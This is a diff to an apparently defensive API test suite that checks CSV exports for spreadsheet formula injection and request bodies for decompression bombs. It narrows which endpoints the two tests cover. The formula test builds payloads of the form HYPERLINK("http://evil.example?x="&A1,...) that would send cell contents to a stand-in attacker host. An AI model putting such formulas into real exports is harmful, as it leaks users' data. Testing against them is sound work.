@@ -19,7 +19,8 @@ describe('a cell that a spreadsheet would run', () => {
   const STARTS = ['=', '+', '-', '@']
   const PAYLOADS = STARTS.map(start => `${start}HYPERLINK("http://evil.example?x="&A1,"bấm")`)
   const LISTS = OPERATIONS.filter(
-    ({ answers, path }) => answers.some(({ type }) => type === 'text/csv') && !path.includes(':'),
+    // Readings have tests of their own; nothing in their file was written by people.
+    ({ answers, path }) => answers.some(({ type }) => type === 'text/csv') && !/:|\.csv$/.test(path),
   )
   let station: TestStation
   beforeAll(async () => {
@@ -116,6 +117,8 @@ describe('what unpacks to more than it should', () => {
       // To one's own account nobody is let through here.
       if (method !== 'post' || OPERATION_NEEDS[id] === 'person') continue
       if (path.endsWith('/retry') || path.endsWith('/ingest')) continue
+      // Nothing of the body is read before the ticket is looked at.
+      if (path.endsWith('/entry/files')) continue
       const answer = await get(station.url + path.replace(':kind', 'tasks').replace(':id', 'display-1'), {
         method: 'POST',
         headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
